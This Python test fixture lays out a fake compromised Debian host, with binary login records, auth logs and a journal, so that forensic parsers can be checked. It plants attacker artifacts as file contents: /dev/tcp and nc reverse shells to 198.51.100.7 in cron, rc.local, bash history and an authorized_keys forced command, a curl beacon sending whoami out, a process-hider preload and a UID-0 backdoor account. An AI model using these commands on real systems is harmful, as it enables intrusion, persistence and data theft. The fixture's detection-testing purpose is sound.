"""A small Linux host tree in real formats, for the Linux parsers' tests and the end-to-end check.

Binary files are written the way the system writes them: utmp/wtmp/btmp and lastlog records with
``struct`` per glibc's x86-64 layout, the journal by the real ``systemd-journal-remote`` from the
journal export format (skipped when the tool is absent), rotated logs with gzip. Text files copy this
machine's own where it has them (/etc/passwd, /etc/group, /var/log/dpkg.log, apt's history.log) and
add the planted lines the findings must see. Times are fixed so the tests can assert them.
"""

from __future__ import annotations

import gzip
import ipaddress
import os
import shutil
import struct
import subprocess
from datetime import UTC, datetime
from pathlib import Path

UTMP = struct.Struct("<hxxi32s4s32s256shhiii16s20s")   # struct utmp, glibc x86-64 (384 bytes)
LASTLOG = struct.Struct("<i32s256s")                   # struct lastlog (292 bytes)
JOURNAL_REMOTE = "/lib/systemd/systemd-journal-remote"
ED25519_BLOB = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + bytes(range(32))
# the auth log ends on 2 Jan 2026; its file mtime (set below) is 3 Jan 2026, 12:00 UTC
AUTH_MTIME = datetime(2026, 1, 3, 12, 0, tzinfo=UTC)
ATTACKER = "203.0.113.66"


def utmp_record(typ: int, pid: int, line: str, user: str, host: str, when: datetime, addr: str | None = None) -> bytes:
    packed = b"\0" * 16
    if addr:
        ip = ipaddress.ip_address(addr)
        packed = ip.packed.ljust(16, b"\0")
    return UTMP.pack(typ, pid, line.encode(), line[-4:].encode(), user.encode(), host.encode(), 0, 0, 0,
                     int(when.timestamp()), 250000, packed, b"\0" * 20)


def _write(root: Path, rel: str, text: str | bytes, mtime: datetime | None = None) -> Path:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        p.write_bytes(text)
    else:
        p.write_text(text, encoding="utf-8")
    if mtime is not None:
        os.utime(p, (mtime.timestamp(), mtime.timestamp()))
    return p


def _copy_or(root: Path, rel: str, src: str, fallback: str) -> None:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    if os.path.isfile(src) and os.access(src, os.R_OK):
        shutil.copyfile(src, p)
    else:
        p.write_text(fallback, encoding="utf-8")


def auth_log_lines() -> list[str]:
    lines = [f"Dec 31 23:50:{i:02d} web1 sshd[700{i}]: Failed password for root from {ATTACKER} port 5{i:04d} ssh2"
             for i in range(6)]
    lines += [f"Dec 31 23:55:00 web1 sshd[7010]: Invalid user oracle from {ATTACKER} port 51000",
              f"Jan  1 00:00:05 web1 sshd[7011]: Accepted password for root from {ATTACKER} port 51001 ssh2",
              "Jan  1 00:01:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
              "COMMAND=/usr/bin/curl -s http://198.51.100.7/x.sh",
              "Jan  1 00:02:00 web1 su: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)",
              "Jan  1 00:03:00 web1 useradd[7020]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
              "Jan  1 00:03:30 web1 passwd[7021]: pam_unix(passwd:chauthtok): password changed for toor",
              "Jan  2 08:00:00 web1 CRON[7030]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
              "Jan  2 08:00:00 web1 login[7031]: FAILED LOGIN (1) on '/dev/tty1' FOR 'bob', Authentication failure",
              "Jan  2 09:00:00 web1 sshd[7040]: Accepted publickey for alice from 192.0.2.10 port 40000 ssh2: "
              "ED25519 SHA256:abc"]
    return lines


def write_journal_export(path: Path, start: datetime) -> None:
    """Journal export format (systemd's JOURNAL_EXPORT_FORMATS): KEY=value lines, a blank line per entry."""
    entries = [("sshd", f"Failed password for invalid user admin from {ATTACKER} port 6000{i} ssh2") for i in range(5)]
    entries += [("sshd", f"Accepted password for admin2 from {ATTACKER} port 60010 ssh2"), ("systemd", "Started x.")]
    base = int(start.timestamp() * 1_000_000)
    out = []
    for i, (ident, msg) in enumerate(entries):
        out.append("\n".join([f"__REALTIME_TIMESTAMP={base + i * 1_000_000}", f"__MONOTONIC_TIMESTAMP={(i + 1) * 1_000_000}",
                              "_BOOT_ID=00112233445566778899aabbccddeeff", "_HOSTNAME=web1", f"SYSLOG_IDENTIFIER={ident}",
                              f"_PID={800 + i}", f"MESSAGE={msg}", "PRIORITY=6"]) + "\n\n")
    path.write_text("".join(out), encoding="utf-8")


JOURNAL_START = datetime(2026, 1, 5, 10, 0, tzinfo=UTC)


def build_linux_tree(root: Path) -> Path:
    """Lay out the host under ``root`` (a mounted '/') and return it."""
    _copy_or(root, "etc/passwd", "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    with open(root / "etc/passwd", "a", encoding="utf-8") as f:
        f.write("alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n")
    _write(root, "etc/shadow", "root:$y$j9T$abc$def:20400:0:99999:7:::\nalice:$6$salt$hash:20454:0:99999:7:::\n"
                              "toor::20454:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n")
    _copy_or(root, "etc/group", "/etc/group", "root:x:0:\n")
    with open(root / "etc/group", "a", encoding="utf-8") as f:
        f.write("sudoers2:x:1500:alice,toor\n")
    _write(root, "etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\n'
                                  'VERSION_ID="12"\nVERSION="12 (bookworm)"\nID=debian\n')
    _write(root, "etc/hostname", "web1\n")
    _write(root, "etc/timezone", "Europe/Berlin\n")
    auth = "\n".join(auth_log_lines()) + "\n"
    _write(root, "var/log/auth.log", auth, AUTH_MTIME)
    _write(root, "var/log/auth.log.2.gz", gzip.compress(b"Jun  1 10:00:00 web1 sshd[1]: Accepted password for bob "
                                                        b"from 192.0.2.5 port 1 ssh2\n"), datetime(2025, 6, 8, tzinfo=UTC))
    _write(root, "var/log/syslog", "2026-01-02T08:00:01.123456+01:00 web1 CRON[7050]: (alice) CMD "
                                   "(/home/alice/.cache/upd >/dev/null 2>&1)\n"
                                   "2026-01-02T08:00:02+01:00 web1 kernel: something else\n")
    t = datetime(2026, 1, 1, 0, 0, 5, tzinfo=UTC)
    _write(root, "var/log/wtmp", utmp_record(2, 0, "~", "reboot", "6.1.0", datetime(2025, 12, 31, 22, 0, tzinfo=UTC))
           + utmp_record(7, 7011, "pts/0", "root", ATTACKER, t, ATTACKER)
           + utmp_record(8, 7011, "pts/0", "", "", datetime(2026, 1, 1, 1, 0, tzinfo=UTC)))
    _write(root, "var/log/btmp", b"".join(utmp_record(6, 7000 + i, "ssh:notty", "root", ATTACKER,
                                                      datetime(2025, 12, 31, 23, 50, i, tzinfo=UTC), ATTACKER)
                                          for i in range(3)))
    _write(root, "var/log/lastlog", b"\0" * (LASTLOG.size * 1000)
           + LASTLOG.pack(int(datetime(2026, 1, 2, 9, 0, tzinfo=UTC).timestamp()), b"pts/1", b"192.0.2.10"))
    _copy_or(root, "var/log/dpkg.log", "/var/log/dpkg.log", "2025-05-20 00:00:00 install bash:amd64 <none> 5.2.15-2\n")
    with open(root / "var/log/dpkg.log", "a", encoding="utf-8") as f:
        f.write("2026-01-01 01:05:00 install socat:amd64 <none> 1.7.4.4-2\n")
    _copy_or(root, "var/log/apt/history.log", "/var/log/apt/history.log", "")
    with open(root / "var/log/apt/history.log", "a", encoding="utf-8") as f:
        f.write("\nStart-Date: 2026-01-01  01:04:58\nCommandline: apt-get install -y socat\nRequested-By: alice (1000)\n"
                "Install: socat:amd64 (1.7.4.4-2)\nEnd-Date: 2026-01-01  01:05:01\n")
    _write(root, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
                                "*/5 * * * * root /tmp/.x/upd.sh\n")
    _write(root, "etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x\n")
    _write(root, "etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n")
    _write(root, "var/spool/cron/crontabs/alice", "# DO NOT EDIT\n@reboot bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"
                                                 "0 8 * * * /home/alice/.cache/upd\n")
    _write(root, "etc/anacrontab", "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n")
    _write(root, "etc/systemd/system/dbus-helper.service", "[Unit]\nDescription=helper\n[Service]\n"
                                                         "ExecStart=/dev/shm/.helper --daemon\nUser=root\n"
                                                         "[Install]\nWantedBy=multi-user.target\n")
    _write(root, "etc/systemd/system/multi-user.target.wants/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n")
    _write(root, "home/alice/.config/systemd/user/sync.timer", "[Timer]\nOnCalendar=*-*-* *:00:00\n"
                                                             "Unit=sync.service\n[Install]\nWantedBy=timers.target\n")
    _write(root, "home/alice/.config/systemd/user/sync.service", "[Service]\nExecStart=/home/alice/.local/bin/sync \\\n"
                                                               "  --quiet\n")
    _write(root, "etc/rc.local", "#!/bin/sh -e\nnohup nc -e /bin/sh 198.51.100.7 9001 &\nexit 0\n")
    _write(root, "etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libprocesshider.so\n")
    _write(root, "etc/profile", "if [ \"$PS1\" ]; then\n  PS1='$ '\nfi\n")
    _write(root, "home/alice/.bashrc", "alias ll='ls -l'\nexport PROMPT_COMMAND='history -a; curl -s "
                                       "http://198.51.100.7/p?$(whoami)'\n")
    import base64
    key = base64.b64encode(ED25519_BLOB).decode()
    _write(root, "home/alice/.ssh/authorized_keys",
           f"ssh-ed25519 {key} alice@laptop\n"
           f'no-pty,command="/bin/bash -c \\"sh -i >& /dev/tcp/198.51.100.7/53 0>&1\\"",from="10.0.0.0/8" '
           f"ssh-ed25519 {key} backup\nnot a key line\n")
    _write(root, "home/alice/.bash_history", "ls\n#1767225600\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")
    if os.access(JOURNAL_REMOTE, os.X_OK):
        export = root.parent / "journal-export.txt"
        write_journal_export(export, JOURNAL_START)
        jdir = root / "var/log/journal/0123456789abcdef0123456789abcdef"
        jdir.mkdir(parents=True, exist_ok=True)
        subprocess.run([JOURNAL_REMOTE, f"--output={jdir / 'system.journal'}", str(export)], check=True,
                       capture_output=True, timeout=60)
    return root
